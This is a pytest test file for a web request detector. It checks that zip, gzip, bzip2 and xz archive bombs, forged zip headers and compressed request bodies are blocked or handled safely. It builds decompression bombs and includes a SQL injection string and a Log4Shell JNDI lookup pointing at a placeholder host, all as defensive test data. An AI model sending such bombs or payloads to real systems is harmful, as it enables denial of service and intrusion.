"""Archive bombs by compression ratio: zip, gzip, bzip2, xz and compressed request bodies."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import time
import zipfile
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from dijk.detect.archives import (
    MIN_BOMB_BYTES,
    archive_kind,
    inflate,
    inspect_archive,
    inspect_zip,
)
from dijk.detect.engine import Detector
from dijk.detect.findings import RequestParts

DETECTOR = Detector()
ZEROS = bytes(4 << 20)


def make_zip(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def upload(content: bytes, filename: str, part_type: str) -> RequestParts:
    boundary = "dijktest"
    disposition = f'form-data; name="file"; filename="{filename}"'
    head = (
        f"--{boundary}\r\nContent-Disposition: {disposition}\r\nContent-Type: {part_type}\r\n\r\n"
    )
    body = head.encode() + content + f"\r\n--{boundary}--\r\n".encode()
    return RequestParts.from_target(
        "POST", "/upload", [("Content-Type", f"multipart/form-data; boundary={boundary}")], body
    )


def rule_ids(request: RequestParts) -> set[str]:
    return {finding.rule_id for finding in DETECTOR.inspect(request).findings}


def test_formats_are_recognised_by_magic_number() -> None:
    assert archive_kind(make_zip({"a.txt": b"a"})) == "zip"
    assert archive_kind(gzip.compress(b"a")) == "gzip"
    assert archive_kind(bz2.compress(b"a")) == "bzip2"
    assert archive_kind(lzma.compress(b"a")) == "xz"
    assert archive_kind(b"%PDF-1.7") is None


def test_zip_of_zeros_is_a_bomb_by_declared_ratio() -> None:
    report = inspect_zip(make_zip({"zeros.bin": ZEROS}))
    assert report.bomb.startswith("declared ratio")


def test_ordinary_zip_is_not_a_bomb() -> None:
    text = b"".join(b"line %d of an ordinary report\n" % n for n in range(20_000))
    report = inspect_zip(make_zip({"report.csv": text, "readme.txt": b"hello"}))
    assert report.bomb == ""


def test_zip_with_lying_sizes_is_caught_by_inflating() -> None:
    archive = bytearray(make_zip({"zeros.bin": ZEROS}))
    # Rewrite the declared uncompressed size in the central directory to something modest.
    central = archive.rfind(b"PK\x01\x02")
    archive[central + 24 : central + 28] = struct.pack("<I", 1000)
    local = archive.find(b"PK\x03\x04")
    archive[local + 22 : local + 26] = struct.pack("<I", 1000)
    report = inspect_zip(bytes(archive))
    assert report.bomb


def test_zip_with_overlapping_entries_is_a_bomb() -> None:
    archive = make_zip({"a.txt": b"x" * 1000})
    end = archive.rfind(b"PK\x05\x06")
    central = archive.rfind(b"PK\x01\x02")
    entry = archive[central:end]
    directory_offset = central
    count = 2
    eocd = (
        b"PK\x05\x06"
        + struct.pack("<HHHHII", 0, 0, count, count, len(entry) * 2, directory_offset)
        + b"\x00\x00"
    )
    forged = archive[:central] + entry + entry + eocd
    assert inspect_zip(forged).bomb == "overlapping entries"


@pytest.mark.parametrize(
    ("compress", "kind"),
    [(gzip.compress, "gzip"), (bz2.compress, "bzip2"), (lzma.compress, "xz")],
)
def test_streams_of_zeros_are_bombs_and_inflation_stays_bounded(compress, kind) -> None:  # type: ignore[no-untyped-def]
    data = compress(ZEROS)
    started = time.perf_counter()
    report = inspect_archive(data, budget=2 << 20)
    assert report is not None
    assert report.kind == kind
    assert report.bomb
    assert report.inflated <= 2 << 20
    assert time.perf_counter() - started < 2


def test_gzip_text_is_not_a_bomb() -> None:
    text = b"".join(b'{"id": %d, "name": "customer %d"}\n' % (n, n) for n in range(50_000))
    report = inflate(gzip.compress(text), "gzip")
    assert report.bomb == ""
    assert report.expanded == text


def test_small_highly_compressible_file_is_not_a_bomb() -> None:
    report = inspect_archive(gzip.compress(bytes(MIN_BOMB_BYTES // 2)))
    assert report is not None
    assert report.bomb == ""


def test_zip_bomb_upload_is_blocked() -> None:
    request = upload(make_zip({"zeros.bin": ZEROS}), "photos.zip", "application/zip")
    verdict = DETECTOR.inspect(request)
    assert verdict.blocked
    assert "upload-archive-bomb" in {finding.rule_id for finding in verdict.findings}


def test_gzip_bomb_as_raw_body_is_blocked() -> None:
    request = RequestParts.from_target(
        "POST", "/import", [("Content-Type", "application/gzip")], gzip.compress(ZEROS)
    )
    assert "upload-archive-bomb" in rule_ids(request)


def test_ordinary_zip_upload_passes() -> None:
    request = upload(make_zip({"a.txt": b"hello " * 100}), "a.zip", "application/zip")
    assert not DETECTOR.inspect(request).blocked


def test_gzip_request_body_is_inflated_and_inspected() -> None:
    body = gzip.compress(b'{"note": "1 UNION SELECT password FROM users"}')
    request = RequestParts.from_target(
        "POST",
        "/api/v1/accounts",
        [("Content-Type", "application/json"), ("Content-Encoding", "gzip")],
        body,
    )
    verdict = DETECTOR.inspect(request)
    assert verdict.blocked
    assert {finding.field for finding in verdict.findings} == {"$.note"}


def test_gzip_request_body_bomb_is_blocked() -> None:
    request = RequestParts.from_target(
        "POST",
        "/api/v1/accounts",
        [("Content-Type", "application/json"), ("Content-Encoding", "gzip")],
        gzip.compress(b"[" + b" " * (12 << 20) + b"]"),
    )
    assert "upload-archive-bomb" in rule_ids(request)


def test_deflate_request_body_is_inflated() -> None:
    request = RequestParts.from_target(
        "POST",
        "/api/v1/accounts",
        [("Content-Type", "application/json"), ("Content-Encoding", "deflate")],
        zlib.compress(b'{"a": "${jndi:ldap://x.example/a}"}'),
    )
    assert DETECTOR.inspect(request).blocked


def test_unknown_content_coding_is_reported_without_blocking() -> None:
    request = RequestParts.from_target(
        "POST",
        "/api/v1/accounts",
        [("Content-Type", "application/json"), ("Content-Encoding", "br")],
        b"\x8b\x02\x80hello\x03",
    )
    verdict = DETECTOR.inspect(request)
    assert "limits-unknown-encoding" in {finding.rule_id for finding in verdict.findings}
    assert not verdict.blocked


@pytest.mark.parametrize("junk", [b"PK\x03\x04", b"PK\x05\x06" + b"\xff" * 18, b"\x1f\x8b\x08"])
def test_truncated_archives_do_not_raise(junk: bytes) -> None:
    inspect_archive(junk)
    DETECTOR.inspect(upload(junk, "a.zip", "application/zip"))


@settings(max_examples=200, deadline=None)
@given(
    st.sampled_from([b"PK\x03\x04", b"PK\x05\x06", b"\x1f\x8b", b"BZh9", b"\xfd7zXZ\x00"]),
    st.binary(max_size=600),
)
def test_arbitrary_bytes_behind_an_archive_magic_never_raise(magic: bytes, tail: bytes) -> None:
    data = magic + tail
    inspect_archive(data, budget=1 << 16)
    if tail:
        # A forged end-of-directory record at the end, pointing anywhere.
        inspect_zip(data + b"PK\x05\x06" + tail[:18].ljust(18, b"\xff"), budget=1 << 16)
